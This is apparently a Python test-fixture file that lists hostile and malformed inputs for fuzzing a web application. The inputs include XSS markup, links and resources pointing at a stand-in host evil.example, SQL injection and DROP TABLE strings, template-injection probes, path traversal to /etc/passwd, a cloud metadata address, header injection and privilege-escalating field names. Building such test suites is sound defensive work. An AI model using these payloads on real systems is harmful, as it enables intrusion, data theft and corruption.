"""What strangers type: our own collection of strings that broke somebody's software once."""

from collections.abc import Iterable

from tests.house.shares import is_ours

MARK = "zq9x"
"""Stands in the name of a tag or attribute of every piece of markup, to be known by."""

MARKUP = (
    f"<script {MARK}>alert(1)</script>",
    f"<img {MARK} src=x onerror=alert(1)>",
    f'"><svg {MARK} onload=alert(1)>',
    f"'><{MARK}>",
    f'" {MARK}="1" autofocus onfocus="alert(1)',
    f"' {MARK}='1' autofocus onfocus='alert(1)",
    f"` {MARK}=`1",
    f"</title><{MARK}>",
    f"</textarea><{MARK}>",
    f"</script><{MARK}>",
    f"</style><{MARK}>",
    f"--><{MARK}>",
    f"]]><{MARK}>",
    f"<{MARK}",
    f"<!--<{MARK}",
    f"<a {MARK} href=javascript:alert(1)>x</a>",
    f"<iframe {MARK} srcdoc='<script>alert(1)</script>'>",
    f"<style {MARK}>@import '//evil.example/x.css'</style>",
    f"<base {MARK} href=//evil.example/>",
    f"<form {MARK} action=//evil.example/><input type=submit>",
    f"<meta {MARK} http-equiv=refresh content='0;url=//evil.example/'>",
    f"<link {MARK} rel=stylesheet href=//evil.example/x.css>",
    f"<math {MARK}><mtext><{MARK}></mtext></math>",
    f"<svg {MARK}><use href='data:image/svg+xml,<svg/>'/></svg>",
    f"<details {MARK} open ontoggle=alert(1)>",
    f"&lt;img {MARK} src=x onerror=alert(1)&gt;",
    f"&#60;{MARK}&#62; \\u003c{MARK}\\u003e %3C{MARK}%3E",
    f"<scr<script>ipt {MARK}>",
    f"<{MARK}\x0b/onclick=alert(1)>",
    f"<div {MARK} hx-get=//evil.example hx-trigger=load>",
)
MARKDOWN = (
    f"[{MARK}](javascript:alert(1))",
    f"[{MARK}](java&#10;script:alert(1))",
    f"[{MARK}](<data:text/html,<script>alert(1)</script>>)",
    f"[{MARK}](vbscript:x)",
    f"![{MARK}](https://evil.example/{MARK}.png)",
    f"![{MARK}][{MARK}]\n\n[{MARK}]: //evil.example/{MARK}.png",
    f"[{MARK}]\n\n[{MARK}]: javascript:alert(1)",
    f'[{MARK}](https://evil.example "{MARK}&quot; onclick=alert(1) {MARK}=&quot;")',
    f"<javascript:alert(1)//{MARK}>",
    f"`<{MARK}>` ``` <{MARK}> ```",
    f'```"><{MARK}>\nx\n```',
    f"[1](javascript:{MARK}) [1] [999999] [{MARK}]",
    f"| <{MARK}> |\n|---|\n| <img {MARK}> |",
)
TEMPLATES = (
    "{{ 7|add:42 }}",
    "{% load log %}{{ request.user.password }}",
    "{% include 'web/page.html' %}",
    "{# x",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %n %d %",
    "{name} {0.__class__.__mro__} {",
)
QUERIES = (
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE people_user; --",
    "a' UNION SELECT password FROM people_user --",
    "%_\\",
    '"unbalanced',
    "((((",
    "a & | ! <-> :*",
    'a NEAR b AND NOT "c" *',
    "^text:x - + ~ * ?",
)
CHARACTERS = (
    "\0",
    "a\0b",
    "\x07\x08\x1b[31m\x7f",
    f"a\r\nSet-Cookie: {MARK}=1\r\n\r\n<{MARK}>",
    "\u2028\u2029\u0085",
    "\u202egpj.exe",
    "\u200f\u200e\u2066\u2069",
    "Z\u0351\u036b\u0343\u036a" * 20,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\ufeff\ufffe\uffff\U0010ffff",
    "İıßﬀ ａｄｍｉｎ",
    "\U000e0001\U000e0061",
)
NUMBERS = (
    *("१२", "٣", "Ⅻ", "-1", "-0", "0x1F", "1_000", "1e400", "NaN", "Infinity", "9" * 400),
    *("null", "undefined", "true", "None", "2026-02-30", "0001-01-01", "9999-12-31T23:59:59"),
)
PLACES = (
    *("../../etc/passwd", "..\\..\\x", "C:\\x", "/etc/passwd\0.txt", ".htaccess", "CON"),
    *("//evil.example", "/\\evil.example", "javascript:alert(1)", "file:///etc/passwd"),
    *("http://169.254.169.254/", "https:evil.example", "=1+1", "@SUM(1)", "a,b;c|d"),
)
NOTHING = ("", " ", "\t\n", "\u3000", "\u200b")
LONG = ("a" * 1_000_000, "й" * 70_000, "<" * 5_000)

STRINGS = (
    *MARKUP,
    *MARKDOWN,
    *TEMPLATES,
    *QUERIES,
    *CHARACTERS,
    *NUMBERS,
    *PLACES,
    *NOTHING,
    *LONG,
)
FOR_EACH_ENGINE = frozenset((*QUERIES, *CHARACTERS, *NUMBERS, *LONG))
"""What one database may take and another not; the rest is decided before any is asked."""
SOME = (
    *(MARKUP[1], MARKUP[4], TEMPLATES[0], TEMPLATES[6], *QUERIES[:2], QUERIES[4], QUERIES[7]),
    *("a\0b", CHARACTERS[3], "\u202e", "१२", "9" * 400, "NaN", "//evil.example", "", "a" * 9_000),
)
"""One of each kind, for where all of them would take too long."""

VALUES: tuple[object, ...] = (
    *(None, True, 0, -1, 2**63, 10**400, 1.5, 1e308, "", [], {}, [[]], [None], {"a": {"b": []}}),
    *(["read", "read"], [["read"]], {"$ne": None}, {"__proto__": {"is_staff": True}}, [0] * 300),
)
"""Of the wrong type, or of the right one and too much."""

BODIES = (
    *(b"", b"{", b"[", b"null", b"true", b'"x"', b"[]", b"[{}]", b"\xff\xfe{}", b"\xef\xbb\xbf{}"),
    *(b'{"name": NaN}', b'{"name": 1e400}', b'{"name": 1e999999999}', b'{"name": -Infinity}'),
    *(b'{"name": "a", "name": "b"}', b'{"name": "\\ud800"}', b'{"name": "\\u0000"}'),
    *(b"[" * 100_000, b'{"a":' * 100_000, b"9" * 10_000, b'{"name": ' + b"9" * 10_000 + b"}"),
    *(b'{"\\u0000": 1}', b"{'name': 'a'}", b'{"name": "a",}', b"name=a", b"\0", b"<a/>"),
)
"""Whole bodies that are no JSON, or no JSON that anybody should send."""

FORBIDDEN_FIELDS = {
    "id": "01932d1c-7a2e-7cc1-9f3a-5d2b7c1e4a90",
    "pk": 1,
    "is_staff": True,
    "is_admin": True,
    "is_superuser": True,
    "is_active": False,
    "role": "ADMIN",
    "staff_areas": ["finance"],
    "person": "charlie",
    "person_id": 1,
    "guest": 1,
    "guest_id": 1,
    "owner": "person:1",
    "user": 1,
    "audience": "person:1",
    "credits": 10**9,
    "balance": 10**9,
    "charged": 0,
    "state": "done",
    "status": "paid",
    "tier": "PRO",
    "plan": "PRO",
    "has_paid": True,
    "prefix": "x",
    "token": "x",
    "token_hash": "x",
    "revoked_at": None,
    "made_at": "2000-01-01",
    "deleted_at": None,
    "ended_at": None,
    "expires_in": 1,
    "parent": None,
    "receipt": 1,
    "sha256": "x",
    "size": 0,
    "storage_name": "../x",
    "joined_at": "2000-01-01",
    "username": "x",
}
"""Names of columns that no request may write."""


def for_this_engine(where: str, texts: Iterable[str]) -> list[str]:
    """Return which of the texts to type there; some only where the other engine is."""
    return [text for text in texts if text in FOR_EACH_ENGINE or is_ours(f"{where} {text[:60]}")]
